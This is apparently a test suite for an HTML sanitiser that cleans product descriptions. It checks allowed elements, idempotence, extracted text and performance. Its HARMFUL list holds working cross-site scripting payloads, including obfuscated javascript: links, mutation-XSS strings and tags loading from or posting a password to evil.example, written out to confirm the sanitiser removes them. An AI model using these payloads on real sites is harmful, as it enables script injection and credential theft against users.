"""Descriptions in HTML: nothing that runs is kept, the result is stable, and its text is what a reader sees."""

import string
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mercato_server.domain.html_descriptions import UnstableHtmlError, cleaned, shortened, text_of

HARMFUL = [
    "<script>alert(1)</script>",
    "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
    "<style>@import 'https://evil.example/x.css'; p { display: none }</style>",
    '<img src="https://a.example/x.jpg" onerror="alert(1)">',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt&#58;alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<iframe src="https://evil.example"></iframe><object data=x></object><embed src=x>',
    '<form action="https://evil.example"><input name=password><button>x</button></form>',
    '<p style="position:fixed;inset:0" class=modal id=cart onclick=alert(1)>x</p>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<svg><p><style><g title="</style><img src onerror=alert(1)>">',
    '<base href="https://evil.example"><meta http-equiv=refresh content="0;url=https://evil.example"><link rel=stylesheet href=x>',
]
ELEMENTS = {
    "a", "abbr", "b", "bdi", "bdo", "blockquote", "br", "caption", "cite", "code", "col", "colgroup", "dd", "del", "details", "dfn", "div",
    "dl", "dt", "em", "figcaption", "figure", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "i", "img", "ins", "kbd", "li", "mark", "ol", "p",
    "pre", "q", "s", "samp", "small", "span", "strong", "sub", "summary", "sup", "table", "tbody", "td", "tfoot", "th", "thead", "time",
    "tr", "u", "ul", "var", "wbr",
}  # fmt: skip
ATTRIBUTES = {
    "alt", "colspan", "datetime", "dir", "height", "href", "rel", "rowspan", "scope", "span", "src", "start", "title", "value", "width",
}  # fmt: skip
SCHEMES = ("http:", "https:", "mailto:", "tel:")


class Seen(HTMLParser):
    """Notes the elements, attributes and addresses of a text as a parser of another author reads it."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: set[str] = set()
        self.attributes: dict[str, str] = {}
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.add(tag)
        self.attributes |= {name: value or "" for name, value in attrs}


@pytest.mark.parametrize("html", HARMFUL)
def test_nothing_that_runs_or_styles_is_kept(html: str) -> None:
    seen = Seen(cleaned(html))
    assert seen.elements <= ELEMENTS
    assert set(seen.attributes) <= ATTRIBUTES
    for name in ("href", "src"):
        address = seen.attributes.get(name, "")
        assert ":" not in address or address.startswith(SCHEMES)


@given(st.lists(st.one_of(st.sampled_from(HARMFUL), st.text(string.printable, max_size=20), st.text(max_size=5))).map("".join))
def test_cleaning_twice_is_cleaning_once(html: str) -> None:
    try:
        once = cleaned(html)
    except UnstableHtmlError:
        return
    assert cleaned(once) == once
    assert Seen(once).elements <= ELEMENTS


def test_what_describes_a_product_is_kept() -> None:
    html = (
        "<h2>Size</h2><p>A <strong>round</strong> ball &amp; a <em>net</em>.<br>New</p>"
        '<ul><li>One</li></ul><img src="https://a.example/b.jpg"'
        ' alt="Ball"><table><tbody><tr><th scope="row">kg</th><td colspan="2">4</td></tr></tbody></table>'
    )
    assert cleaned(html) == html
    link = cleaned('<a href="https://a.example/?a=1&b=2">x</a>')
    assert link == '<a href="https://a.example/?a=1&amp;b=2" rel="nofollow noopener noreferrer">x</a>'


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("", ""),
        ("<p>One</p><p>Two<br>Three</p>", "One\n\nTwo\nThree"),
        ("<p>One\n  two</p>\n\n<p>Three</p>", "One two\n\nThree"),
        ("<ul>\n<li>One</li>\n<li>Two</li>\n</ul>\nafter", "One\nTwo\n\nafter"),
        ("<h2>Head</h2>\nbody", "Head\n\nbody"),
        ("<table><tbody><tr><th>Size</th><td>M</td></tr><tr><th>Hue</th><td>Red</td></tr></tbody></table>", "Size M\nHue Red"),
        ("a &lt;b&gt; &amp;amp; caf&eacute;&nbsp;&euro;", "a <b> &amp; café €"),
        ("a<b>b</b>c <i>d</i>", "abc d"),
        ("<p></p><p> </p>x", "x"),
        ("<div><div><p>x</p></div></div><div>y</div>", "x\n\ny"),
    ],
)
def test_the_text_is_what_a_reader_sees(html: str, text: str) -> None:
    assert text_of(cleaned(html)) == text


def test_a_text_is_cut_at_a_word() -> None:
    assert shortened("one two three", 13) == "one two three"
    assert shortened("one two three", 12) == "one two"
    assert shortened("one two three", 7) == "one two"
    assert shortened("one\ntwo three", 5) == "one"
    assert shortened("x" * 20, 5) == "xxxxx"


def test_the_worst_nesting_within_the_bound_takes_no_second() -> None:
    begun = time.perf_counter()
    for html in ("<b>" * 2_500 + "</p>" * 2_500, "<div>" * 5_000, "<a>" * 5_000, "<table>" * 5_000):
        text_of(cleaned(html))
    assert time.perf_counter() - begun < 20  # 0.6 s on an idle machine; without the bound of tags, minutes
